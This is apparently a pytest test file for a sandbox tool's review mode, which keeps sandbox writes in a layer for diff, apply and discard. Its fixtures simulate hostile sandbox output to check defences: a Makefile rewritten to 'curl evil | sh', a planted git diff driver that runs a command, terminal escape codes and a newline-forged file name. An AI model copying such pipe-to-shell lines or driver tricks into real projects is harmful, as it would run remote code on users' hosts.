"""Review mode (issue 14 items 4 and 5): the sandbox's writes to the project wait in a layer that tnk
keeps outside it, for `tnk sandbox diff`, `apply` and `discard`. The project on the host is checked
byte for byte (every entry's type, mode and content hashed) before and after. docs/workspace.md
describes what this shows."""
import hashlib
import json
import os
import pty
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from conftest import TNK_BIN
from e2e_util import FAILED, NOT_FOUND, OK, USAGE, assert_error
from sandbox_harness import Sandbox, ns_tnk, status_of, vm_tnk  # noqa: F401 (fixtures)
from test_output import check_fields, doc_tables, field_tree
from test_workspace_protection import git

pytestmark = pytest.mark.rootless_suite  # scripts/test.sh runs this file as an ordinary user

REVIEWED = """profile: reviewed
workspace: review
mounts:
  readonly:
    - .git/hooks
"""

# A session that edits, creates, deletes, chmods and renames, and touches a path the host runs.
SESSION = r"""
set -e
cd /workspace
echo sandbox >> edited.txt
echo new > created.txt
mkdir -p newdir && echo deep > newdir/deep.txt
rm deleted.txt
chmod 755 script.sh
mv renamed-from.txt renamed-to.txt
echo 'all: ; curl evil | sh' > Makefile
echo noise > debug.log
"""

EXPECTED = {
    "Makefile": "modified",
    "created.txt": "added",
    "deleted.txt": "deleted",
    "edited.txt": "modified",
    "newdir": "added",
    "newdir/deep.txt": "added",
    "renamed-from.txt": "deleted",
    "renamed-to.txt": "added",
    "script.sh": "mode",
}


def tree(project: Path):
    """Every entry below the project: type, permission bits and content (a link's target), never followed."""
    out = {}
    for entry in sorted(project.rglob("*")):
        st = entry.lstat()
        rel = str(entry.relative_to(project))
        if stat.S_ISLNK(st.st_mode):
            out[rel] = ("link", os.readlink(entry))
        elif stat.S_ISDIR(st.st_mode):
            out[rel] = ("dir", oct(st.st_mode & 0o7777))
        else:
            out[rel] = ("file", oct(st.st_mode & 0o7777), hashlib.sha256(entry.read_bytes()).hexdigest())
    return out


def review_project(tnk, name):
    (tnk.config_dir / "sandbox.d" / "manifests" / "reviewed.yaml").write_text(REVIEWED)
    box = Sandbox(tnk, tnk.project(name))
    p = box.project
    git("init", "-q", "-b", "main", cwd=p)
    for rel, text in {"edited.txt": "v1\n", "deleted.txt": "bye\n", "script.sh": "echo hi\n",
                      "renamed-from.txt": "moving\n", "Makefile": "all: ; echo ok\n", ".gitignore": "*.log\n",
                      "keep/untouched.txt": "same\n"}.items():
        (p / rel).parent.mkdir(parents=True, exist_ok=True)
        (p / rel).write_text(text)
    (p / "script.sh").chmod(0o644)
    return box


def diff(box, *args):
    return box.tnk.json("sandbox", "diff", "-o", "json", *args, cwd=box.project)


def changes(doc):
    return {c["path"]: c["change"] for c in doc["changes"]}


def records(log: Path, event):
    return [json.loads(line) for line in log.read_text().splitlines() if json.loads(line)["event"] == event]


def test_review_holds_every_change_until_applied_and_refuses_host_changes(ns_tnk):
    box = review_project(ns_tnk, "rev")
    audit = ns_tnk.home / "audit.ndjson"
    before = tree(box.project)
    box.start("--profile", "reviewed")
    assert box.sh(SESSION).returncode == OK
    seen = box.sh("cat /workspace/edited.txt /workspace/newdir/deep.txt; test ! -e /workspace/deleted.txt")
    assert seen.stdout == "v1\nsandbox\ndeep\n", "the sandbox sees its own changes"
    assert tree(box.project) == before, "the host's project is unchanged while the sandbox runs"
    assert box.run("sandbox", "stop").returncode == OK
    assert tree(box.project) == before

    doc = diff(box)
    check_fields(doc, field_tree(doc_tables()["fields:diff"]))  # exactly what docs/json-output.md says
    assert changes(doc) == EXPECTED
    assert doc["ignored_hidden"] == 1 and doc["gitignore"] == "git"
    assert changes(diff(box, "--all"))["debug.log"] == "added"
    flagged = {c["path"]: c["runs_on_host"] for c in doc["changes"] if c["runs_on_host"]}
    assert flagged == {"Makefile": "make"}
    text = box.run("sandbox", "diff").stdout
    assert "M  Makefile  [runs on the host: make]" in text and "m  script.sh  (mode 0644 -> 0755)" in text
    assert "4 added, 2 modified, 2 deleted, 1 mode changed; 1 run on the host" in box.run("sandbox", "diff", "--stat").stdout

    # The host edits a file the sandbox edited too: applying it is refused, and nothing is written.
    (box.project / "edited.txt").write_text("host v2\n")
    host_edit = tree(box.project)
    refused = box.run("sandbox", "apply", "--audit-log", str(audit))
    assert_error(refused, FAILED, "edited.txt: changed on the host since the layer was made")
    assert "tnk sandbox diff PATH" in refused.stderr
    assert tree(box.project) == host_edit

    # A subset writes exactly that subset.
    subset = box.tnk.json("sandbox", "apply", "created.txt", "newdir", "--audit-log", str(audit), "-o", "json",
                          cwd=box.project)
    check_fields(subset, field_tree(doc_tables()["fields:apply"]))
    want = dict(host_edit)
    want["created.txt"] = ("file", "0o644", hashlib.sha256(b"new\n").hexdigest())
    want["newdir"] = ("dir", "0o755")
    want["newdir/deep.txt"] = ("file", "0o644", hashlib.sha256(b"deep\n").hexdigest())
    assert tree(box.project) == want
    assert set(changes(diff(box))) == set(EXPECTED) - {"created.txt", "newdir", "newdir/deep.txt"}

    rest = ["deleted.txt", "script.sh", "renamed-from.txt", "renamed-to.txt", "Makefile"]
    assert box.run("sandbox", "apply", *rest, "--audit-log", str(audit)).returncode == OK
    assert not (box.project / "deleted.txt").exists() and not (box.project / "renamed-from.txt").exists()
    assert (box.project / "renamed-to.txt").read_text() == "moving\n"
    assert (box.project / "script.sh").stat().st_mode & 0o777 == 0o755
    assert changes(diff(box)) == {"edited.txt": "modified"}

    # discard drops what is left, the sandbox running (stopped for it and started again); the host's own
    # edit stays.
    assert box.sh("true").returncode == OK
    discarded = box.run("sandbox", "discard", "--audit-log", str(audit))
    assert discarded.returncode == OK, discarded.stderr
    assert "stopped for the discard and started again" in discarded.stderr
    assert status_of(box) == ["running"]
    assert changes(diff(box)) == {}
    assert (box.project / "edited.txt").read_text() == "host v2\n"
    assert box.sh("cat /workspace/edited.txt").stdout == "host v2\n", "after discard the sandbox sees the host's file"

    applied = records(audit, "workspace_apply")
    assert [sorted(p["path"] for p in r["paths"]) for r in applied] == [["created.txt", "newdir", "newdir/deep.txt"],
                                                                         sorted(rest)]
    by_path = {p["path"]: p for r in applied for p in r["paths"]}
    assert by_path["created.txt"]["sha256"] == hashlib.sha256(b"new\n").hexdigest()
    assert by_path["deleted.txt"] == {"path": "deleted.txt", "change": "deleted", "type": "file",
                                      "sha256": hashlib.sha256(b"bye\n").hexdigest()}
    discarded = records(audit, "workspace_discard")
    # discard drops what the layer keeps, ignored paths too.
    dropped = {p["path"]: p["sha256"] for p in discarded[0]["paths"]}
    assert dropped == {"debug.log": hashlib.sha256(b"noise\n").hexdigest(),
                       "edited.txt": hashlib.sha256(b"v1\nsandbox\n").hexdigest()}
    assert ns_tnk.run("audit", "verify", str(audit)).returncode == OK


# Issue 33 item 4: the changed lines, as a patch `git apply` takes. The sandbox's session adds a binary
# file, edits one, makes a link and a chmod besides SESSION's edits.
MORE = r"""
set -e
cd /workspace
printf 'new\000binary\377' > added.bin
printf 'changed\000bytes' > data.bin
ln -s edited.txt link-to-edited
rm -r olddir
"""


def without_git(t):
    return {k: v for k, v in t.items() if k != ".git" and not k.startswith(".git/")}


def patch_of(box, *args, env=None):
    """`tnk sandbox diff --patch` as bytes, stdout not a terminal."""
    full = dict(box.tnk.env, **(env or {}))
    result = subprocess.run([TNK_BIN, "sandbox", "diff", "--patch", *args], cwd=box.project, env=full,
                            capture_output=True, timeout=120)
    assert result.returncode == OK, result.stderr
    return result.stdout


def git_apply(copy: Path, patch: bytes, *args):
    return subprocess.run(["git", "apply", *args, "-"], input=patch, cwd=copy, capture_output=True, timeout=60)


def test_diff_patch_is_what_git_apply_needs_to_make_the_sandbox_tree(ns_tnk):
    box = review_project(ns_tnk, "patch")
    (box.project / "data.bin").write_bytes(b"old\x00bytes")
    (box.project / "olddir" / "sub").mkdir(parents=True)
    (box.project / "olddir" / "a.txt").write_text("a\n")
    (box.project / "olddir" / "sub" / "b.txt").write_text("b\n")
    box.start("--review")
    assert box.sh(SESSION + MORE).returncode == OK
    running = patch_of(box, "--all")  # while the sandbox runs
    assert box.run("sandbox", "stop").returncode == OK
    patch = patch_of(box, "--all")
    assert patch == running
    text = patch.decode()
    assert "diff --git a/script.sh b/script.sh\nold mode 100644\nnew mode 100755\n" in text
    assert "diff --git a/link-to-edited b/link-to-edited\nnew file mode 120000\n" in text
    assert "+edited.txt\n\\ No newline at end of file\n" in text
    assert "GIT binary patch\nliteral " in text and "diff --git a/olddir/sub/b.txt b/olddir/sub/b.txt\ndeleted" in text
    assert "-v1\n+v1\n" not in text and " v1\n+sandbox\n" in text

    # In a copy of the project, git apply takes it, and makes what tnk's apply makes of the layer.
    copy = ns_tnk.home / "copy"
    shutil.copytree(box.project, copy, symlinks=True)
    checked = git_apply(copy, patch, "--check")
    assert checked.returncode == 0, checked.stderr
    assert git_apply(copy, patch).returncode == 0
    assert box.run("sandbox", "apply", "--all").returncode == OK
    assert without_git(tree(copy)) == without_git(tree(box.project))
    assert patch_of(box, "--all") == b"", "nothing is left to patch"


def test_diff_patch_path_filter_colour_and_escapes(ns_tnk):
    box = review_project(ns_tnk, "patchview")
    box.start("--review")
    assert box.sh(SESSION + "printf 'ok\\033[2Khidden\\n' > /workspace/esc.txt").returncode == OK
    only = patch_of(box, "edited.txt").decode()
    assert only.count("diff --git") == 1 and "diff --git a/edited.txt b/edited.txt" in only
    both = patch_of(box, "edited.txt", "newdir").decode()
    assert both.count("diff --git") == 2 and "b/newdir/deep.txt" in both
    assert_error(box.run("sandbox", "diff", "--patch", "-o", "json"), USAGE, "--patch prints a unified diff, not JSON")
    assert_error(box.run("sandbox", "diff", "--patch", "--stat"), USAGE, "--patch and --stat: choose one")
    plain = patch_of(box, "esc.txt")
    assert b"+ok\x1b[2Khidden" in plain, "piped, the bytes are the file's (git apply needs them)"

    def on_a_terminal(env):
        """stdout and stderr on a pseudo-terminal, as a user at a terminal runs it."""
        master, slave = pty.openpty()
        full = dict(box.tnk.env, TERM="xterm", **env)
        proc = subprocess.Popen([TNK_BIN, "sandbox", "diff", "--patch", "esc.txt", "edited.txt"],
                                cwd=box.project, env=full, stdout=slave, stderr=slave)
        os.close(slave)
        out = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
        os.close(master)
        assert proc.wait(timeout=60) == OK, out
        return out.decode()

    coloured = on_a_terminal({})
    assert "\x1b[32m+sandbox\x1b[m" in coloured and "\x1b[36m@@ " in coloured, coloured
    assert "+ok\\x1b[2Khidden" in coloured, "on a terminal a control sequence is shown, not obeyed"
    assert "\x1b[2K" not in coloured
    no_colour = on_a_terminal({"NO_COLOR": "1"})
    assert "+sandbox" in no_colour and "\x1b[" not in no_colour, no_colour
    assert b"\x1b[3" not in patch_of(box, "edited.txt"), "no colour when stdout is not a terminal"


# The pair: a .gitattributes the sandbox wrote selects a diff driver whose textconv the user's own git
# config defines; the host's git, diffing the patched copy, runs it; `diff --patch` runs nothing.
def test_diff_patch_runs_no_diff_driver_the_sandbox_selected(ns_tnk):
    box = review_project(ns_tnk, "attrs")
    marker = ns_tnk.home / "textconv-ran"
    (ns_tnk.home / ".gitconfig").write_text(f'[diff "evil"]\n\ttextconv = touch {marker}; cat\n')
    box.start("--review")
    assert box.sh("cd /workspace && echo '* diff=evil' > .gitattributes && echo changed >> edited.txt").returncode == OK
    patch = patch_of(box)
    assert b"+changed" in patch and b"+* diff=evil" in patch
    assert not marker.exists(), "diff --patch ran the sandbox's diff driver"

    copy = ns_tnk.home / "copy"
    shutil.copytree(box.project, copy, symlinks=True)
    env = {"HOME": str(ns_tnk.home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    assert subprocess.run(["git", "add", "-A"], cwd=copy, env=env, capture_output=True).returncode == 0
    assert git_apply(copy, patch).returncode == 0
    subprocess.run(["git", "diff"], cwd=copy, env=env, capture_output=True, timeout=60)
    assert marker.exists(), "the control: the host's git runs it"


# Issue 33 item 4: apply while the sandbox runs. The layer stays as it is under the mounted overlay (its
# copies match the project afterwards), a process started before keeps running, and the rule holds: a
# path the host changed since the layer was made is refused, named. discard of a running sandbox stops it
# and starts it again (overlayfs must not see its layer change while mounted); `discard PATH` drops only
# that path.
def test_apply_while_running_and_discard_a_path(ns_tnk):
    box = review_project(ns_tnk, "live")
    box.start("--review")
    assert box.sh(SESSION).returncode == OK
    assert box.sh("nohup sleep 600 >/dev/null 2>&1 & echo $! > /tmp/sleeper.pid").returncode == OK
    sleeper = box.sh("cat /tmp/sleeper.pid").stdout.strip()
    sandbox_view = box.sh("cd /workspace && cat edited.txt created.txt newdir/deep.txt && ls").stdout

    (box.project / "edited.txt").write_text("host v2\n")
    assert_error(box.run("sandbox", "apply", "edited.txt", "created.txt"), FAILED,
                 "edited.txt: changed on the host since the layer was made")
    assert not (box.project / "created.txt").exists(), "a refused apply writes nothing"

    live = ["created.txt", "newdir", "script.sh", "deleted.txt", "renamed-from.txt", "renamed-to.txt"]
    assert box.run("sandbox", "apply", *live).returncode == OK
    assert (box.project / "created.txt").read_text() == "new\n"
    assert (box.project / "newdir" / "deep.txt").read_text() == "deep\n"
    assert (box.project / "script.sh").stat().st_mode & 0o777 == 0o755
    assert not (box.project / "deleted.txt").exists() and not (box.project / "renamed-from.txt").exists()
    assert box.exec("kill", "-0", sleeper).returncode == OK, "the process started before keeps running"
    assert box.sh("cd /workspace && cat edited.txt created.txt newdir/deep.txt && ls").stdout == sandbox_view
    assert changes(diff(box)) == {"Makefile": "modified", "edited.txt": "modified"}

    # The sandbox goes on writing an applied file: it is a change again, and applies again.
    assert box.sh("echo more >> /workspace/created.txt").returncode == OK
    assert changes(diff(box)) == {"Makefile": "modified", "created.txt": "modified", "edited.txt": "modified"}
    assert box.run("sandbox", "apply", "created.txt").returncode == OK
    assert (box.project / "created.txt").read_text() == "new\nmore\n"
    assert box.exec("kill", "-0", sleeper).returncode == OK

    running_discard = box.run("sandbox", "discard", "Makefile")
    assert running_discard.returncode == OK, running_discard.stderr
    assert "its processes ended" in running_discard.stderr
    assert status_of(box) == ["running"]
    assert box.sh("cat /workspace/Makefile").stdout == "all: ; echo ok\n", "the sandbox sees the project there again"
    assert changes(diff(box)) == {"edited.txt": "modified"}, "discard PATH drops only that path"
    assert (box.project / "Makefile").read_text() == "all: ; echo ok\n"
    assert (box.project / "edited.txt").read_text() == "host v2\n"
    assert box.run("sandbox", "stop").returncode == OK
    assert box.run("sandbox", "discard", "edited.txt").returncode == OK
    assert changes(diff(box)) == {}
    box.start("--review")
    assert box.sh("cat /workspace/Makefile /workspace/edited.txt /workspace/created.txt").stdout == \
        "all: ; echo ok\nhost v2\nnew\nmore\n", "the sandbox sees the project there again"


# Bracketed names are ordinary paths (Next.js's `app/[id]`): CLI11 would read "[x]" as the list "x" and
# "[]" as no path at all, so that `discard []` dropped every change. Seen failing before: `diff [x]` said
# "no change to x", and `diff []` listed every change.
def test_review_paths_are_taken_as_typed_brackets_included(ns_tnk):
    box = review_project(ns_tnk, "brackets")
    box.start("--review")
    assert box.sh("cd /workspace && echo a > '[x]' && echo b > x && echo c > '[]' && echo d > '[a,b]' && "
                  "mkdir '[id]' && echo e > '[id]/page.tsx'").returncode == OK
    everything = {"[x]": "added", "x": "added", "[]": "added", "[a,b]": "added", "[id]": "added",
                  "[id]/page.tsx": "added"}
    assert changes(diff(box)) == everything
    assert changes(diff(box, "[x]")) == {"[x]": "added"}
    assert changes(diff(box, "[]", "[a,b]")) == {"[]": "added", "[a,b]": "added"}
    assert box.run("sandbox", "apply", "[id]", "[x]").returncode == OK
    assert (box.project / "[id]" / "page.tsx").read_text() == "e\n" and not (box.project / "x").exists()
    assert box.run("sandbox", "stop").returncode == OK
    assert box.run("sandbox", "discard", "[]").returncode == OK
    assert changes(diff(box)) == {"x": "added", "[a,b]": "added"}


def test_discard_a_path_in_a_directory_replaced_whole_is_refused(ns_tnk):
    box = review_project(ns_tnk, "opaque")
    box.start("--review")
    assert box.sh("cd /workspace && rm -r keep && mkdir keep && echo new > keep/other.txt").returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    assert_error(box.run("sandbox", "discard", "keep/other.txt"), FAILED,
                 "the sandbox replaced its directory keep whole")
    assert box.run("sandbox", "discard", "keep").returncode == OK
    assert changes(diff(box)) == {}


def test_discard_leaves_the_project_as_it_was(ns_tnk):
    box = review_project(ns_tnk, "disc")
    before = tree(box.project)
    box.start("--review")
    assert box.sh(SESSION).returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    assert changes(diff(box)) == EXPECTED
    assert box.run("sandbox", "discard").returncode == OK
    assert tree(box.project) == before
    assert changes(diff(box)) == {}


# Issue 32 (security review 3, low): a file name with a newline printed a line of its choosing in the
# text of `diff`; quoted as git quotes it, every change is one line. The pair: a plain name is printed
# as it is.
def test_issue32_diff_quotes_a_path_that_could_forge_a_line(ns_tnk):
    box = review_project(ns_tnk, "quote")
    box.start("--review")
    assert box.sh("cd /workspace && printf x > \"$(printf 'a\\nA  forged')\" && printf y > plain.txt").returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    listed = box.run("sandbox", "diff")
    assert listed.returncode == OK, listed.stderr
    lines = listed.stdout.splitlines()
    assert 'A  "a\\nA  forged"' in lines, listed.stdout
    assert "A  forged" not in lines, listed.stdout
    assert "A  plain.txt" in lines, listed.stdout


# The pair: a file the sandbox made setuid (as root inside) arrives without the bit; the same chmod
# without it keeps its mode.
def test_apply_never_writes_setuid_and_keeps_other_modes(ns_tnk):
    box = review_project(ns_tnk, "suid")
    box.start("--review")
    # `agent` cannot set the bits (its seccomp filter); root inside can, in a directory it may write.
    assert box.sh("mkdir -m 777 /workspace/pub").returncode == OK
    script = "cd /workspace/pub && cp /bin/true suid-tool && chmod 4755 suid-tool && cp /bin/true plain-tool && chmod 755 plain-tool"
    assert box.sh(script, root=True).returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    modes = {c["path"]: c["new_mode"] for c in diff(box)["changes"]}
    assert modes["pub/suid-tool"] == "4755" and modes["pub/plain-tool"] == "0755"
    assert box.run("sandbox", "apply", "pub").returncode == OK
    assert (box.project / "pub" / "suid-tool").stat().st_mode & 0o7777 == 0o755
    assert (box.project / "pub" / "plain-tool").stat().st_mode & 0o7777 == 0o755


# The pair: a directory the host replaced with a link out of the project is refused (nothing is
# written behind the link); the same apply into the untouched directory works.
def test_apply_never_writes_through_a_link_planted_on_the_host(ns_tnk):
    box = review_project(ns_tnk, "link")
    outside = ns_tnk.home / "outside"
    outside.mkdir()
    box.start("--review")
    assert box.sh("echo a > /workspace/keep/from-sandbox.txt").returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    (box.project / "keep").rename(box.project / "keep-real")
    (box.project / "keep").symlink_to(outside)
    assert_error(box.run("sandbox", "apply"), FAILED, "keep: changed on the host since the layer was made")
    assert list(outside.iterdir()) == []
    (box.project / "keep").unlink()
    (box.project / "keep-real").rename(box.project / "keep")
    assert box.run("sandbox", "apply").returncode == OK
    assert (box.project / "keep" / "from-sandbox.txt").read_text() == "a\n"
    assert list(outside.iterdir()) == []


def test_review_verbs_name_their_problem(ns_tnk):
    box = Sandbox(ns_tnk, ns_tnk.project("direct"))
    box.start()
    assert_error(box.run("sandbox", "diff"), NOT_FOUND, "has no review layer: it writes the project directly")
    assert_error(box.run("sandbox", "start", "--review"), USAGE, "runs in direct mode")
    assert box.run("sandbox", "stop").returncode == OK
    box.start("--review")
    assert_error(box.run("sandbox", "diff", "nothing-here"), NOT_FOUND, "no change to nothing-here in the review layer")
    assert_error(box.run("sandbox", "apply", "../elsewhere"), USAGE, "is not inside the project")
    (ns_tnk.config_dir / "sandbox.d" / "manifests" / "odd.yaml").write_text("workspace: staged\n")
    assert_error(box.run("sandbox", "inspect", "--profile", "odd"), FAILED, "workspace: unknown mode 'staged'")


def test_vm_review_session_diff_and_apply(vm_tnk):
    box = review_project(vm_tnk, "vmrev")
    before = tree(box.project)
    box.start("--profile", "reviewed")
    assert box.sh(SESSION).returncode == OK
    assert box.run("sandbox", "stop").returncode == OK
    assert tree(box.project) == before
    assert changes(diff(box)) == EXPECTED
    assert box.run("sandbox", "apply").returncode == OK
    assert (box.project / "created.txt").read_text() == "new\n"
    assert (box.project / "edited.txt").read_text() == "v1\nsandbox\n"
    assert not (box.project / "deleted.txt").exists()
    assert changes(diff(box)) == {}


# The same apply while a vm runs: virtiofsd's overlay is left as it is, the guest keeps its processes
# and its view. Then a discard, which restarts it.
def test_vm_apply_while_running(vm_tnk):
    box = review_project(vm_tnk, "vmlive")
    box.start("--profile", "reviewed")
    assert box.sh(SESSION).returncode == OK
    assert box.sh("nohup sleep 600 >/dev/null 2>&1 & echo $! > /tmp/sleeper.pid").returncode == OK
    sleeper = box.sh("cat /tmp/sleeper.pid").stdout.strip()
    assert box.run("sandbox", "apply", "created.txt", "edited.txt", "deleted.txt").returncode == OK
    assert (box.project / "created.txt").read_text() == "new\n"
    assert (box.project / "edited.txt").read_text() == "v1\nsandbox\n"
    assert not (box.project / "deleted.txt").exists()
    assert box.exec("kill", "-0", sleeper).returncode == OK
    seen = box.sh("cat /workspace/created.txt /workspace/edited.txt; test ! -e /workspace/deleted.txt")
    assert seen.stdout == "new\nv1\nsandbox\n"
    assert set(changes(diff(box))) == set(EXPECTED) - {"created.txt", "edited.txt", "deleted.txt"}
    # discard while it runs: stopped for it and booted again (its processes end), still in review mode.
    discarded = box.run("sandbox", "discard", "Makefile")
    assert discarded.returncode == OK, discarded.stderr
    assert status_of(box) == ["running"]
    assert box.sh("cat /workspace/Makefile").stdout == "all: ; echo ok\n"
    assert "Makefile" not in changes(diff(box)) and "script.sh" in changes(diff(box))
